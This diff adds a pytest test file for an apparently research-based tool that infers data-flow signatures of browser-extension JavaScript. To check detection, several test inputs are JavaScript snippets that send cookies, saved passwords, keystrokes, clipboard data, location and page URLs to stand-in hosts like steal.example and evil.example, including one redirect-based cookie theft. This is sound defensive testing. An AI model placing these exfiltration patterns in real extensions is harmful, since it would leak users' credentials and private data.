@@ -1,0 +1,293 @@
+"""End-to-end signature inference tests (the full P1+P2+P3 pipeline
+under the browser environment)."""
+
+import pytest
+
+from repro.api import infer_signature, vet
+from repro.domains import prefix as p
+from repro.signatures import ApiEntry, FlowEntry, FlowType
+
+
+def flows(signature):
+    return {(e.source, e.flow_type, e.sink) for e in signature.flows}
+
+
+def flow_for(signature, source, sink="send"):
+    return {e for e in signature.flows if e.source == source and e.sink == sink}
+
+
+class TestExplicitFlows:
+    def test_direct_url_send_is_type1(self):
+        signature = infer_signature(
+            """
+            var xhr = new XMLHttpRequest();
+            xhr.open("GET", "http://rank.example.com/q=" + content.location.href);
+            xhr.send();
+            """
+        )
+        assert ("url", FlowType.TYPE1, "send") in flows(signature)
+
+    def test_url_through_object_property(self):
+        signature = infer_signature(
+            """
+            var payload = { page: content.location.href };
+            var xhr = new XMLHttpRequest();
+            xhr.open("POST", "http://collect.example.com/submit");
+            xhr.send(payload.page);
+            """
+        )
+        assert ("url", FlowType.TYPE1, "send") in flows(signature)
+
+    def test_no_source_no_flow(self):
+        signature = infer_signature(
+            """
+            var xhr = new XMLHttpRequest();
+            xhr.open("GET", "http://static.example.com/feed");
+            xhr.send();
+            """
+        )
+        assert not signature.flows
+        assert ApiEntry("send", p.exact("http://static.example.com/feed")) in signature.entries
+
+    def test_domain_inferred_exactly(self):
+        signature = infer_signature(
+            """
+            var xhr = new XMLHttpRequest();
+            xhr.open("GET", "http://api.example.org/lookup?u=" + content.location.href);
+            xhr.send();
+            """
+        )
+        entry = flow_for(signature, "url").pop()
+        # The appended href is unknown, so the domain is a prefix: exactly
+        # what Section 5 designs for.
+        assert entry.domain == p.prefix("http://api.example.org/lookup?u=")
+
+    def test_unknown_suffix_keeps_domain_prefix(self):
+        signature = infer_signature(
+            """
+            var base = "http://api.example.org/v1/";
+            var path = Math.random() ? "a" : "b";
+            var xhr = new XMLHttpRequest();
+            xhr.open("GET", base + path + content.location.href);
+            xhr.send();
+            """
+        )
+        entry = flow_for(signature, "url").pop()
+        assert entry.domain == p.prefix("http://api.example.org/v1/")
+
+
+class TestImplicitFlows:
+    def test_conditional_assignment_is_local(self):
+        signature = infer_signature(
+            """
+            var flag = "no";
+            if (content.location.href == "https://bank.example")
+                flag = "yes";
+            var xhr = new XMLHttpRequest();
+            xhr.open("GET", "http://evil.example/" + flag);
+            xhr.send();
+            """
+        )
+        entries = flow_for(signature, "url")
+        assert entries
+        assert {e.flow_type for e in entries} <= {FlowType.TYPE3, FlowType.TYPE4}
+
+    def test_handler_flow_is_amplified(self):
+        signature = infer_signature(
+            """
+            window.addEventListener("keypress", function(e) {
+                var xhr = new XMLHttpRequest();
+                xhr.open("GET", "http://log.example/k=" + e.keyCode);
+                xhr.send();
+            }, false);
+            """
+        )
+        entries = flow_for(signature, "key")
+        assert entries
+        # Data flow inside a handler: still type1 as data; check the key
+        # source reaches the sink at all.
+        assert any(
+            e.flow_type in (FlowType.TYPE1, FlowType.TYPE2, FlowType.TYPE3)
+            for e in entries
+        )
+
+    def test_implicit_only_key_flow_in_handler_is_type3(self):
+        signature = infer_signature(
+            """
+            window.addEventListener("keypress", function(e) {
+                if (e.keyCode == 84) {
+                    var xhr = new XMLHttpRequest();
+                    xhr.open("GET", "http://translate.example/run");
+                    xhr.send();
+                }
+            }, false);
+            """
+        )
+        entries = flow_for(signature, "key")
+        assert {e.flow_type for e in entries} == {FlowType.TYPE3}
+
+
+class TestOtherSources:
+    def test_cookie_source(self):
+        signature = infer_signature(
+            """
+            var c = content.document.cookie;
+            var xhr = new XMLHttpRequest();
+            xhr.open("GET", "http://steal.example/?c=" + c);
+            xhr.send();
+            """
+        )
+        assert ("cookie", FlowType.TYPE1, "send") in flows(signature)
+
+    def test_password_source(self):
+        signature = infer_signature(
+            """
+            var logins = Services.logins.getAllLogins();
+            var xhr = new XMLHttpRequest();
+            xhr.open("POST", "http://steal.example/pw");
+            xhr.send(logins[0]);
+            """
+        )
+        assert any(e.source == "password" for e in signature.flows)
+
+    def test_geolocation_source(self):
+        signature = infer_signature(
+            """
+            navigator.geolocation.getCurrentPosition(function(pos) {
+                var xhr = new XMLHttpRequest();
+                xhr.open("GET", "http://track.example/?lat=" + pos.coords.latitude);
+                xhr.send();
+            });
+            """
+        )
+        assert any(e.source == "geoloc" for e in signature.flows)
+
+    def test_clipboard_source(self):
+        signature = infer_signature(
+            """
+            var clip = Services.clipboard.getData();
+            var xhr = new XMLHttpRequest();
+            xhr.open("POST", "http://paste.example/x");
+            xhr.send(clip);
+            """
+        )
+        assert any(e.source == "clipboard" for e in signature.flows)
+
+
+class TestApiUsage:
+    def test_scriptloader_usage_reported(self):
+        signature = infer_signature(
+            """
+            Services.scriptloader.loadSubScript("chrome://addon/helper.js");
+            """
+        )
+        assert ApiEntry("scriptloader") in signature.entries
+
+    def test_eval_usage_reported(self):
+        signature = infer_signature("eval('1 + 1');")
+        assert ApiEntry("eval") in signature.entries
+
+    def test_api_usage_through_function_copy(self):
+        # "functions can be copied and passed around in JavaScript".
+        signature = infer_signature(
+            """
+            var loader = Services.scriptloader.loadSubScript;
+            var alias = loader;
+            alias("chrome://addon/payload.js");
+            """
+        )
+        assert ApiEntry("scriptloader") in signature.entries
+
+    def test_no_api_usage_when_only_referenced(self):
+        signature = infer_signature(
+            "var maybe = Services.scriptloader;"
+        )
+        assert ApiEntry("scriptloader") not in signature.entries
+
+
+class TestXHRWrapperPattern:
+    def test_wrapper_send_domain_from_wrap_site(self):
+        signature = infer_signature(
+            """
+            var req = XHRWrapper("http://api.partner.example/");
+            req.send(content.location.href);
+            """
+        )
+        entry = flow_for(signature, "url").pop()
+        assert entry.domain.concrete() == "http://api.partner.example/"
+
+    def test_paper_section2_implicit(self):
+        signature = infer_signature(
+            """
+            window.addEventListener("load", check, false);
+            var publicServer = "http://public.example/";
+            function check(e) {
+                var seen = false;
+                if (content.location.href == "sensitive.com")
+                    seen = true;
+                var request = XHRWrapper(publicServer);
+                request.send(seen);
+            }
+            """
+        )
+        entries = flow_for(signature, "url")
+        assert {e.flow_type for e in entries} == {FlowType.TYPE3}
+
+
+class TestMultipleSinks:
+    def test_two_domains_two_entries(self):
+        signature = infer_signature(
+            """
+            var a = new XMLHttpRequest();
+            a.open("GET", "http://one.example/" + content.location.href);
+            a.send();
+            var b = new XMLHttpRequest();
+            b.open("GET", "http://two.example/static");
+            b.send();
+            """
+        )
+        domains = {e.domain.text for e in signature.flows if e.domain}
+        assert any(d.startswith("http://one.example/") for d in domains)
+        bare = {e.domain.text for e in signature.apis if e.domain}
+        assert any(d.startswith("http://two.example/") for d in bare)
+
+
+class TestRedirectSink:
+    """Redirect-based exfiltration (the PropertyWriteSink extension):
+    assigning location.href sends data without any XHR."""
+
+    def test_cookie_exfiltration_via_redirect(self):
+        signature = infer_signature(
+            """
+            content.location.href =
+                "https://evil.example/c?d=" + content.document.cookie;
+            """
+        )
+        entries = flow_for(signature, "cookie", sink="redirect")
+        assert entries
+        entry = entries.pop()
+        assert entry.flow_type is FlowType.TYPE1
+        assert entry.domain.text.startswith("https://evil.example/")
+
+    def test_plain_navigation_is_bare_entry(self):
+        signature = infer_signature(
+            'content.location.href = "https://docs.example/help";'
+        )
+        assert not signature.flows
+        assert any(
+            e.api == "redirect" and "docs.example" in e.domain.text
+            for e in signature.apis
+        )
+
+    def test_implicit_redirect_flow(self):
+        signature = infer_signature(
+            """
+            window.addEventListener("load", function (e) {
+                if (content.document.cookie == "vip=1") {
+                    content.location.href = "https://track.example/vip";
+                }
+            }, false);
+            """
+        )
+        entries = flow_for(signature, "cookie", sink="redirect")
+        assert {e.flow_type for e in entries} == {FlowType.TYPE3}
